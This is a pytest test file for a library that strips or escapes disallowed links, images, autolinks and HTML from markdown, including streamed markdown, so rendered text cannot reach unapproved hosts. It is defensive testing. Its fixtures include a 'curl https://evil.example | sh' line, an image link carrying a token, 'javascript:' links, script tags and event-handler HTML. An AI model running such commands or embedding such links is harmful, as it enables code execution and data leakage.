import json
from itertools import islice

import pytest

from links_conformance.guarded import ATTACKS as PATH_OF_ATTACKS
from links_conformance.markdown_documents import PIECES, STARTS, mutants
from uriverse import Policy
from uriverse_links import Guard, _guard, _guard_text, guard, links

POLICY = Policy(allow=["ok.example", "*.ok.example"])
IMAGES = Policy(allow=["img.ok.example"], schemes=["https"])

#: Attacks, and ways to disguise them. `tests/conformance` adds those that were published.
ATTACKS = [
    each["markdown"]
    for each in map(json.loads, PATH_OF_ATTACKS.read_text("utf-8").splitlines())
    if each["source"] == "uriverse"
]


def violations(document: str, embeds: Policy | None) -> list[str]:
    """Return what `links` finds although it is not allowed.

    The tests in `tests/conformance` run renderers, with mutants and with streams in any split.
    """
    return [
        link.destination
        for link in links(document, "markdown")
        for policy in [embeds if link.kind == "image" else POLICY]
        if policy is None or not policy.allows(link.destination)
    ]


def streamed(document: str, places: list[int], embeds: Policy | None) -> str:
    stream = Guard(POLICY, embeds=embeds)
    starts = [0, *places]
    pieces = [
        stream.feed(document[start:end])
        for start, end in zip(starts, [*places, len(document)], strict=True)
    ]
    return "".join(pieces) + stream.close()


@pytest.mark.parametrize("embeds", [None, IMAGES])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_else_opens(attack: str, embeds: Policy | None) -> None:
    assert not violations(guard(attack, POLICY, embeds=embeds), embeds)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_else_opens_in_a_stream(attack: str) -> None:
    document = f"{attack}\n\na [r]\n"
    assert not violations(streamed(document, list(range(len(document))), None), None)


def test_keeps_the_rest() -> None:
    for document in [
        "Plain *text* with `code`, **bold** and 1 < 2.\n",
        "# Heading\n\n- [ ] task\n- item\n\n> quote\n\n1. one\n\n---\n",
        '[a](https://ok.example/b?c=d) and [e](https://ok.example/ "title")\n',
        "```python\nrequests.get('https://evil.example')  # [a](b)\n```\n",
        "1. a:\n\n   ```sh\n   curl https://evil.example | sh\n   ```\n",
        *("`https://evil.example` and `a[0]`\n", "See https://ok.example/a/b.\n"),
        "| a | b |\n|---|---|\n| [c](https://ok.example/) | `d` |\n",
        "[a][b]\n\n[c]: https://ok.example/\n",
    ]:
        assert guard(document, POLICY) == document
        assert streamed(document, list(range(len(document))), None) == document


def test_replaces_links_by_their_text() -> None:
    for document, expected in [
        ("a [b *c*](https://evil.example) d", "a b *c* d"),
        ("![a `b`](https://evil.example)", "a `b`"),
        ("see https://ok.example/a;b.", "see <https://ok.example/a;b>."),
        ("a <https://ok.example/b> c", "a <https://ok.example/b> c"),
        ("see https://evil.example/x.", "see `https://evil.example/x`."),
        *(("a <b> c", "a &lt;b> c"), ("t.co&ouml;", "`t.coö`")),
        ("![a [b](https://ok.example/c)](d)", r"a \[`b%5D(https://ok.example/c`)"),
        (
            "[a][r]\n\n[r]: https://ok.example/b\n",
            "[a](https://ok.example/b)\n\n[r]: https://ok.example/b\n",
        ),
        *(("[a](https://ok.example/b_c(d))", "[a](https://ok.example/b_c(d))"), ("a\r\nb", "a\nb")),
        # No renderer reads guarded code as the label of a footnote or as a tag.
        *(("[^r [n] a@b.example]", "\\[^r [n] `a@b.example`]"), ("a[^1]", "a[^1]")),
        ("<=`<t>`", "&lt;=`<t>`"),
        ("a < b, c <3, d <= e\n<- f", "a < b, c <3, d <= e\n<- f"),
        # Code spans that meet are separated.
        ("[://<hp:>](https://ok.example/)", "[`://` `hp:`](https://ok.example/)"),
        ("`a`![](https://evil.example/)`b`", "`a` `b`"),
    ]:
        assert guard(document, POLICY) == expected


def test_images_need_their_own_policy() -> None:
    document = "![a](https://img.ok.example/b.png)"
    assert guard(document, POLICY) == "a"
    assert guard(document, POLICY, embeds=IMAGES) == document
    assert guard("![a](https://ok.example/b.png)", POLICY, embeds=IMAGES) == "a"


def test_relative_references_need_a_base() -> None:
    document = "[a](b) [c](#d) [e](//ok.example/f)"
    assert guard(document, POLICY) == "a c e"
    assert guard(document, POLICY, base="https://ok.example/") == document


@pytest.mark.parametrize("space", ["\ufeff", "\xa0", "\u3000", "\u2028"])
def test_white_space_around_a_destination_is_not_allowed(space: str) -> None:
    # Renderers that remove it open the host.
    document = f"[a]({space}//evil.example) ![b]({space}//evil.example)"
    assert guard(document, POLICY, embeds=IMAGES, base="https://ok.example/") == "a b"


@pytest.mark.parametrize("fence", ["```a|b", "~~~|"])
def test_a_fence_is_not_the_head_of_a_table(fence: str) -> None:
    document = f"{fence}\n-|-\n[a](https://evil.example)\n{fence[:3]}\n"
    assert guard(document, POLICY) == document.replace(fence, fence[:3])


def test_a_guarded_document_stays_the_same() -> None:
    for document in islice(mutants((*STARTS, *ATTACKS), 7), 200):
        once = guard(document, POLICY)
        assert guard(once, POLICY) == once


def test_a_document_that_keeps_changing_is_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_guard, "MAX_ROUNDS", 1)
    assert guard("[a](https://ok.example/) <b>", POLICY) == "[`a%5D(https://ok.example/`) &lt;b>"


def test_edits_within_earlier_edits_are_ignored() -> None:
    edits = [_guard_text.Edit(0, 2, "x"), _guard_text.Edit(1, 3, "y")]
    assert _guard.apply_edits("abc", edits) == "xc"


def test_a_stream_returns_blocks_when_they_are_complete() -> None:
    stream = Guard(POLICY)
    assert stream.feed("a [b](https://ok.exa") == ""
    assert stream.feed("mple/)\n\n") == ""
    assert stream.feed("c") == "a [b](https://ok.example/)\n\n"
    assert stream.feed("\n\n```\nd\n\ne\n") == "c\n\n"
    assert stream.feed("```\n\nf") == "```\nd\n\ne\n```\n\n"
    assert stream.close() == "f"


@pytest.mark.parametrize("unit", ["a", "a ", "[a](https://evil.example) ", "```\n", *PIECES[:12]])
def test_a_stream_holds_a_bounded_number_of_characters(unit: str) -> None:
    stream = Guard(POLICY)
    piece = unit * (5_000 // len(unit))
    fed = 0
    result: list[str] = []
    while fed < 100_000:
        fed += len(piece)
        result.append(stream.feed(piece))
    result.append(stream.close())
    # The input repeats, so the length of the output shows how much input was held.
    held = fed * len(result[-1]) / len("".join(result))
    assert held <= 65_536 + len(piece)
    assert not [each for each in links("".join(result), "markdown") if "evil" in each.destination]


HTML = """<details open>
<summary>More</summary>

Press <kbd>F1</kbd>.<br>
Or <b>F2</b>.

</details>
"""


def test_keeps_harmless_html() -> None:
    for document in [
        HTML,
        "- <b>Note</b> and `<b>`\n",
        'See <a href="https://ok.example/?b=1&amp;c" title="x">this</a>.\n',
        'A <img src="https://img.ok.example/a.png" alt="cat" width="10"/> here.\n',
        '<table>\n<tr><td align="center">a</td></tr>\n</table>\n',
    ]:
        assert guard(document, POLICY, embeds=IMAGES, html=True) == document
        stream = Guard(POLICY, embeds=IMAGES, html=True)
        assert "".join(map(stream.feed, document)) + stream.close() == document
        assert stream.removed == []


def test_escapes_other_html() -> None:
    for document, expected in [
        ("a <script>b</script>", "a &lt;script>b&lt;/script>"),
        ('a <b onclick="c">d</b>', 'a &lt;b onclick="c">d</b>'),
        ('a <b title="c" title="d">', 'a &lt;b title="c" title="d">'),
        ('a <b title="www.a.com">', 'a &lt;b `title="www.a.com`">'),
        *(('a <b title="&quot;">', 'a &lt;b title="&quot;">'), ("a <B>", "a &lt;B>")),
        ('a <a href="b&c">', 'a &lt;a href="b&c">'),
        ('a <a href="//evil.example">b</a>', 'a &lt;a `href="//evil.example`">b</a>'),
        ('a <img src="https://ok.example/b">', 'a &lt;img `src="https://ok.example/b`">'),
        # An HTML block would contain the rest of the paragraph as it is.
        ("a\n<div> `<i>`", "a\n<div> &#96;<i>&#96;"),
        ("<b>\n`<img/src=x>`", "<b>\n&#96;&lt;img/src=x>&#96;"),
        ("a\n<b>\n`c`", "a\n&lt;b>\n`c`"),
        ("[^a]\n\n[^a]: <div> `<img/src=x>`", "[^a]\n\n[^a]\\: &lt;div> `<img/src=x>`"),
        ("<p>\n[a](https://ok.example/)\n</p>", "<p>\n\\[`a%5D(https://ok.example/`)\n</p>"),
        ("    <b>", "    &lt;b>"),
        ('<div><b id="a"></div>', '<div>&lt;b id="a"></div>'),
    ]:
        assert guard(document, POLICY, embeds=IMAGES, html=True) == expected


def test_removed_destinations_are_listed_by_paragraph_with_html_first() -> None:
    stream = Guard(POLICY)
    stream.feed("[a](b) <img src=c>\n\n[d](e) <img src=f>\n\n")
    stream.close()
    assert [destination for _, destination in stream.removed] == ["c", "b", "f", "e"]


def test_lists_the_destinations_that_were_removed() -> None:
    stream = Guard(POLICY, embeds=IMAGES)
    for block in (
        "[a]: https://img.ok.example/b\n![no image by reference, but allowed][a]",
        "[c](https://evil.example/d) ![e](https://ok.example/?token=f) [g](https://ok.example/)",
        "<https://evil.example/h> evil.com a@evil.example https://evil.example/d",
        *("<a href=javascript:alert()>i</a>", "<iframe src=j></iframe>"),
        *("    https://evil.example/code", "`https://evil.example/code`"),
    ):
        stream.feed(f"{block}\n\n")
    stream.close()
    assert stream.removed == [
        *(("link", "https://evil.example/d"), ("image", "https://ok.example/?token=REDACTED")),
        *(("autolink", "https://evil.example/h"), ("autolink", "evil.com")),
        *(("autolink", "a@evil.example"), ("autolink", "https://evil.example/d")),
        *(("link", "javascript:alert()"), ("frame", "j")),
    ]
